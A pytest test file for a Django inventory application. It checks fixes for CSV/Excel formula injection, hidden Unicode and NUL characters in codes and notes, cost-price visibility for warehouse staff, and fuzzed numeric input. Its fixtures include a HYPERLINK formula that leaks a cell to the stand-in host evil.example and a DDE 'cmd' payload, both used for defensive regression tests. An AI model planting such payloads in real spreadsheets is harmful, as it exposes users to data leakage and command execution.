"""Issue 9 findings in inventory: each test failed before its fix (the guards marked so did not,
and keep it that way).

Exports neutralise formulas and imports read formulas as text (DESIGN.md 3.10); codes typed by
people are NFC and refuse hidden characters, names and notes refuse NUL and names made only of
invisible characters; unit costs are for catalog.view_cost.
"""

import io
import re
import unicodedata
import zipfile

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from donhang.accounts.services import user_create
from donhang.catalog.models import Category, Product, Variant
from donhang.core.errors import ValidationFailed
from donhang.inventory import stocktakes, transfers
from donhang.inventory.models import StockMovement, Stocktake, Transfer, Warehouse
from donhang.inventory.tests.conftest import PASSWORD
from donhang.inventory.tests.documents_support import make_variant

pytestmark = pytest.mark.django_db

COMPOSED = unicodedata.normalize("NFC", "ÁO-A51B")
DECOMPOSED = unicodedata.normalize("NFD", "ÁO-A51B")


@pytest.fixture
def hn(db):
    return Warehouse.objects.create(code="HN", name="Kho Hà Nội", priority=1)


@pytest.fixture
def hcm(db):
    return Warehouse.objects.create(code="HCM", name="Kho TP.HCM", priority=2)


def _api(api_as, role: str) -> Client:
    client = Client(headers=api_as(role))
    client.cookies["donhang_language"] = "en"
    return client


# --- spreadsheet formula injection -------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    '\t=HYPERLINK("http://evil.example","x")',
    " =1+1",
    "\r=1+1",
    "+84-912",
    "-2+3",
    "@SUM(1,2)",
]


def test_inventory_value_export_neutralises_formulas(login, hn):
    # Given products, options, a category and a warehouse whose names are formulas (written as
    # stored rows: the leading tab, space and CR survive that way)
    category = Category.objects.create(name="=1+2", path="/x/")
    for n, text in enumerate(FORMULAS):
        variant = make_variant(f"F-{n}", stock={hn.pk: 1}, cost=1000, category=category)
        Product.objects.filter(pk=variant.product_id).update(name=text)
        Variant.objects.filter(pk=variant.pk).update(option1=text)
    Warehouse.objects.filter(pk=hn.pk).update(name="=cmd|' /C calc'!A0")

    # When the accountant exports the inventory value
    response = login("accountant").get(reverse("inventory:inventory_value_export"))
    assert response.status_code == 200

    # Then no cell is a formula and every dangerous text starts with an apostrophe
    workbook = load_workbook(io.BytesIO(response.content), data_only=False)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for text in [*FORMULAS, "=1+2", "=cmd|' /C calc'!A0"]:
        text = text.replace("\r", "\n")  # XML reads a stored CR back as a line feed
        assert "'" + text in texts, text
        assert text not in texts, text


def _xlsx_with_cached_results(rows: list[list[str]], cached: dict[str, str]) -> bytes:
    """An .xlsx as Excel saves it: formula cells carry their last result ({cell: value})."""
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    plain = io.BytesIO()
    workbook.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                xml = data.decode()
                for ref, value in cached.items():
                    xml, n = re.subn(
                        rf'<c r="{ref}"><f>(.*?)</f><v\s*/>',
                        rf'<c r="{ref}" t="str"><f>\1</f><v>{value}</v>',
                        xml,
                    )
                    assert n == 1, ref
                data = xml.encode()
            target.writestr(item, data)
    return out.getvalue()


def test_stocktake_import_reads_formulas_as_text_not_their_results(hn):
    # Given a count sheet of AT01 and a scanner file whose code and count are formulas that
    # Excel last computed to "AT01" and 7
    variant = make_variant("AT01", stock={hn.pk: 3})
    sheet = stocktakes.stocktake_create(warehouse=hn)
    content = _xlsx_with_cached_results(
        [["sku", "counted"], ['=HYPERLINK("http://evil.example","AT01")', "=3+4"]],
        {"A2": "AT01", "B2": "7"},
    )
    assert load_workbook(io.BytesIO(content), data_only=True).active["A2"].value == "AT01"

    # When it is imported, then nothing is counted: the formula is the code, not its result
    with pytest.raises(ValidationFailed) as error:
        stocktakes.stocktake_import(stocktake=sheet, filename="scan.xlsx", content=content)
    assert "row 2" in error.value.fields
    assert "HYPERLINK" in error.value.fields["row 2"]
    assert sheet.lines.get(variant=variant).counted is None


def test_stocktake_import_takes_back_our_own_apostrophe(hn):
    # A code exported as text ('-A1, since it starts with "-") imports as the code it is
    variant = make_variant("-A1", stock={hn.pk: 3})
    sheet = stocktakes.stocktake_create(warehouse=hn)

    stocktakes.stocktake_import(
        stocktake=sheet, filename="scan.csv", content=b"sku,counted\n'-A1,2\n"
    )

    assert sheet.lines.get(variant=variant).counted == 2


# --- codes, names and notes --------------------------------------------------------------------


@pytest.mark.parametrize(
    "field, value",
    [
        ("name", "\u200b\u200b"),
        ("name", "Kho\x00"),
        ("name", "\u202e\u200d"),
        ("contact_name", "Anh\x00Nam"),
        ("address", {"line": "12 Hàng Bạc\x00"}),
        ("code", "HN\u200b"),
    ],
)
def test_warehouse_text_with_hidden_characters_is_a_422(api_as, field, value):
    payload = {"code": "KHO-1", "name": "Kho Hải Phòng", field: value}
    response = _api(api_as, "manager").post("/api/v1/warehouses", payload, "application/json")
    assert response.status_code == 422, response.content
    fields = response.json()["error"]["fields"]
    assert any(key.startswith(field) for key in fields), fields
    assert not Warehouse.objects.filter(code="KHO-1").exists()


def test_warehouse_name_of_only_invisible_characters_is_refused_on_the_page(login, english):
    client = login("owner")
    response = client.post(
        reverse("inventory:warehouse_create"),
        {"code": "KHO-1", "name": "\u200b", "kind": "branch", "priority": 100},
    )
    assert response.status_code == 200
    assert response.context["form"].errors.get("name")
    assert not Warehouse.objects.exists()


def test_transfer_by_decomposed_sku_and_notes_without_nul(api_as, hn, hcm):
    variant = make_variant(COMPOSED, stock={hn.pk: 5})
    assert variant.sku == COMPOSED != DECOMPOSED
    client = _api(api_as, "manager")

    bad_note = client.post(
        "/api/v1/transfers",
        {
            "source": "HN",
            "destination": "HCM",
            "note": "gấp\x00",
            "lines": [{"sku": COMPOSED, "quantity": 1}],
        },
        "application/json",
    )
    assert bad_note.status_code == 422
    assert "note" in bad_note.json()["error"]["fields"]

    hidden = client.post(
        "/api/v1/transfers",
        {"source": "HN", "destination": "HCM", "lines": [{"sku": "AO\u200b-A51B", "quantity": 1}]},
        "application/json",
    )
    assert hidden.status_code == 422
    assert "hidden characters" in hidden.json()["error"]["fields"]["lines.0.sku"]
    assert not Transfer.objects.exists()

    created = client.post(
        "/api/v1/transfers",
        {"source": "HN", "destination": "HCM", "lines": [{"sku": DECOMPOSED, "quantity": 2}]},
        "application/json",
    )
    assert created.status_code == 201, created.content
    assert created.json()["lines"][0]["sku"] == COMPOSED


def test_transfer_discrepancy_note_refuses_nul(hn, hcm):
    variant = make_variant("AT01", stock={hn.pk: 5})
    transfer = transfers.transfer_create(
        source=hn, destination=hcm, lines=[transfers.TransferLineInput(2, variant_id=variant.pk)]
    )
    transfers.transfer_send(transfer=transfer)
    line = transfer.lines.get()

    with pytest.raises(ValidationFailed) as error:
        transfers.transfer_receive(
            transfer=transfer, received={line.pk: 1}, discrepancy_note="vỡ\x00"
        )
    assert "discrepancy_note" in error.value.fields


def test_stocktake_counts_by_decomposed_sku_and_note_without_nul(api_as, hn):
    variant = make_variant(COMPOSED, stock={hn.pk: 5})
    client = _api(api_as, "manager")

    bad_note = client.post(
        "/api/v1/stocktakes", {"warehouse": "HN", "note": "\x00"}, "application/json"
    )
    assert bad_note.status_code == 422
    assert "note" in bad_note.json()["error"]["fields"]
    assert not Stocktake.objects.exists()

    code = client.post("/api/v1/stocktakes", {"warehouse": "HN"}, "application/json").json()["code"]
    counted = client.post(
        f"/api/v1/stocktakes/{code}/counts",
        {"counts": [{"sku": DECOMPOSED, "counted": 4}]},
        "application/json",
    )
    assert counted.status_code == 200, counted.content
    assert Stocktake.objects.get(code=code).lines.get(variant=variant).counted == 4


def test_stocktake_import_by_decomposed_code(hn):
    variant = make_variant(COMPOSED, stock={hn.pk: 5})
    sheet = stocktakes.stocktake_create(warehouse=hn)

    stocktakes.stocktake_import(
        stocktake=sheet, filename="scan.csv", content=f"sku,qty\n{DECOMPOSED},3\n".encode()
    )

    assert sheet.lines.get(variant=variant).counted == 3


def test_stock_adjustment_reason_with_nul_is_a_422(api_as, hn):
    variant = make_variant("AT01", stock={hn.pk: 5})

    response = _api(api_as, "manager").post(
        "/api/v1/stock/movements",
        {"sku": "AT01", "warehouse": "HN", "delta": 1, "reason": "tìm thấy\x00"},
        "application/json",
    )

    assert response.status_code == 422
    assert "reason" in response.json()["error"]["fields"]
    assert not StockMovement.objects.filter(variant=variant, kind="adjustment").exists()


def test_lookups_by_codes_with_hidden_characters_are_404(api_as, hn):
    # Guard: on PostgreSQL a NUL in a query is an error, not "no match".
    client = _api(api_as, "manager")
    for path in ("/api/v1/warehouses/HN%00", "/api/v1/transfers/TR1%00", "/api/v1/stocktakes/S%00"):
        assert client.get(path).status_code == 404, path
    assert client.get("/api/v1/warehouses/HN%E2%80%8B").status_code == 404


# --- cost prices -------------------------------------------------------------------------------


def test_stock_movement_admin_hides_unit_costs_from_the_warehouse(hn):
    # Given a receipt-like movement with a unit cost of 45.678 and a warehouse user who may use
    # the admin (staff)
    variant = make_variant("AT01", stock={hn.pk: 5}, cost=45_678)
    assert StockMovement.objects.filter(variant=variant, unit_cost=45_678).exists()
    staff = user_create(username="kho", password=PASSWORD, role="warehouse")
    staff.is_staff = True
    staff.save(update_fields=["is_staff"])
    client = Client()
    client.force_login(staff)
    movement = StockMovement.objects.get(variant=variant)

    listing = client.get(reverse("admin:inventory_stockmovement_changelist"))
    detail = client.get(reverse("admin:inventory_stockmovement_change", args=[movement.pk]))

    assert listing.status_code == 200 and detail.status_code == 200
    for response in (listing, detail):
        assert "45678" not in response.content.decode()
        assert "45.678" not in response.content.decode()


def test_warehouse_staff_see_no_costs_on_stock_and_transfer_pages(login, hn, hcm):
    # Guard: these pages never showed costs; they must not start to.
    variant = make_variant("AT01", stock={hn.pk: 5}, cost=45_678)
    transfer = transfers.transfer_create(
        source=hn, destination=hcm, lines=[transfers.TransferLineInput(2, variant_id=variant.pk)]
    )
    client = login("warehouse")
    for url in (
        reverse("inventory:variant_stock", args=[variant.pk]),
        reverse("inventory:warehouse_detail", args=[hn.pk]),
        reverse("inventory:transfer_detail", args=[transfer.code]),
        reverse("inventory:transfer_list"),
        f"{reverse('inventory:transfer_variant_search')}?q=AT01&source={hn.pk}",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert (
            "45678" not in response.content.decode() and "45.678" not in response.content.decode()
        )


# --- numbers no column holds and digits that are not numbers (found while fuzzing: 500s) ------


def test_pages_take_superscripts_and_huge_numbers_as_no_number(login, english, hn):
    variant = make_variant("AT01", stock={hn.pk: 5})
    client = login("manager")
    huge = "9" * 30

    assert client.get(reverse("inventory:low_stock"), {"warehouse": "²"}).status_code == 200
    assert client.get(reverse("inventory:low_stock"), {"warehouse": huge}).status_code == 200
    assert client.get(reverse("inventory:stocktake_list"), {"warehouse": huge}).status_code == 200
    search = reverse("inventory:transfer_variant_search")
    assert client.get(search, {"q": "AT01", "source": huge}).status_code == 200
    row = client.get(reverse("inventory:transfer_line_row"), {"variant": huge})
    assert row.status_code == 400

    sheet = stocktakes.stocktake_create(warehouse=hn)
    line = sheet.lines.get(variant=variant)
    typed = client.post(
        reverse("inventory:stocktake_sheet", args=[sheet.code]),
        {"line": [line.pk, huge], f"count_{line.pk}": "²"},
    )
    assert typed.status_code == 422
    line.refresh_from_db()
    assert line.counted is None
